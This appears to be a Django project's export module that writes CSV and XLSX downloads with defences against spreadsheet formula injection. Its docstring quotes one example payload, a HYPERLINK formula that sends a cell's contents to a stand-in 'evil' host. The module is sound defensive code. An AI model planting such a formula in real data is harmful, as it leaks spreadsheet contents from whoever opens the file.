"""Exports — 导出: the one CSV and XLSX writer of the project.

Every download of a table goes through here, so that text people typed — an owner's ticket
title, a payee, a memo — can never become a live formula in the spreadsheet of whoever opens the
file (CSV/formula injection: ``=HYPERLINK("http://evil/?"&A1, "点击")``).

- **CSV**: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  is written with a single quote in front (``'=HYPERLINK(…)``), which spreadsheets show as the
  text itself. Numbers stay numbers: an ``int``/``Decimal`` cell, or a text cell that is a plain
  number (``-12.50``, money as the project writes it), is written as it is. Downloads are UTF-8
  with the BOM Excel needs to read Chinese, and stream row by row (``csv_response``), so a large
  export never sits in memory.
- **XLSX**: such a text cell is written as a string cell with Excel's *quote prefix* (the
  apostrophe a user would type), never as a formula; its value is unchanged, so an exported
  roster imports again as it was. Dates get a date format.

``tests/core/test_exports.py`` feeds hostile text through every export route.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.http import content_disposition_header

BOM = "\ufeff"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DATE_FORMAT = "yyyy-mm-dd"


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (and it is not just a number)."""
    return text.startswith(DANGEROUS_START) and not _PLAIN_NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """One CSV cell: numbers as they are, dates in ISO form, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_formula_like(text) else text


class _Line:
    """A file-like object that hands back what the csv module writes (one row at a time)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> Iterator[str]:
    """The CSV text of ``rows`` (the first is usually the header), line by line."""
    writer = csv.writer(_Line())
    first = True
    for row in rows:
        line = writer.writerow([csv_cell(v) for v in row])
        if first and bom:
            line = BOM + line
        first = False
        yield line
    if first and bom:
        yield BOM


def csv_text(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> str:
    """The whole CSV as one string (for small files built in memory)."""
    return "".join(csv_lines(rows, bom=bom))


def _attachment(response, filename: str):
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def csv_response(filename: str, rows: Iterable[Sequence[Any]], *,
                 bom: bool = True) -> StreamingHttpResponse:
    """A CSV download, streamed row by row: UTF-8 with a BOM, every cell through ``csv_cell``."""
    response = StreamingHttpResponse((line.encode("utf-8") for line in csv_lines(rows, bom=bom)),
                                     content_type=CSV_CONTENT_TYPE)
    return _attachment(response, filename)


# --- XLSX ----------------------------------------------------------------------------------------


class XlsxWriter:
    """A workbook written row by row (openpyxl's write-only mode), every cell made safe.

    ``sheet(title, header)`` adds a sheet with a bold header row; ``append(row)`` on it adds a
    row; ``to_bytes()`` is the .xlsx file."""

    def __init__(self, *, title: str = "", creator: str = "阳光物业") -> None:
        from openpyxl import Workbook

        self.workbook = Workbook(write_only=True)
        self.workbook.properties.creator = creator
        if title:
            self.workbook.properties.title = title

    def sheet(self, title: str, header: Sequence[str] = (), *, widths: Sequence[int] = (),
              header_fill: str | None = None, freeze: bool = True) -> XlsxSheet:
        return XlsxSheet(self.workbook.create_sheet(title), header, widths=widths,
                         header_fill=header_fill, freeze=freeze)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.workbook.save(buffer)
        return buffer.getvalue()


class XlsxSheet:
    def __init__(self, worksheet, header: Sequence[str], *, widths: Sequence[int],
                 header_fill: str | None, freeze: bool) -> None:
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Alignment, Font, PatternFill
        from openpyxl.utils import get_column_letter

        self.ws = worksheet
        for position, width in enumerate(widths, start=1):
            self.ws.column_dimensions[get_column_letter(position)].width = width
        if header:
            if freeze:
                self.ws.freeze_panes = "A2"
            cells = []
            for label in header:
                cell = self.cell(label)
                if not hasattr(cell, "font"):  # a plain value: make it a cell to style
                    cell = WriteOnlyCell(self.ws, cell)
                cell.font = Font(bold=True)
                if header_fill:
                    cell.fill = PatternFill("solid", start_color=header_fill)
                cell.alignment = Alignment(horizontal="center")
                cells.append(cell)
            self.ws.append(cells)

    def cell(self, value: Any):
        """One cell: a date with a date format, formula-like text as a quoted string cell."""
        from openpyxl.cell import WriteOnlyCell

        if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
            cell = WriteOnlyCell(self.ws, value)
            cell.number_format = DATE_FORMAT
            return cell
        if isinstance(value, str) and is_formula_like(value):
            cell = WriteOnlyCell(self.ws, value)
            cell.data_type = "s"  # openpyxl would write "=…" as a formula
            cell.quotePrefix = True  # Excel keeps it text, even when the cell is edited
            return cell
        return value

    def append(self, row: Sequence[Any]) -> None:
        self.ws.append([self.cell(v) for v in row])


def xlsx_response(filename: str, data: bytes) -> HttpResponse:
    return _attachment(HttpResponse(data, content_type=XLSX_CONTENT_TYPE), filename)
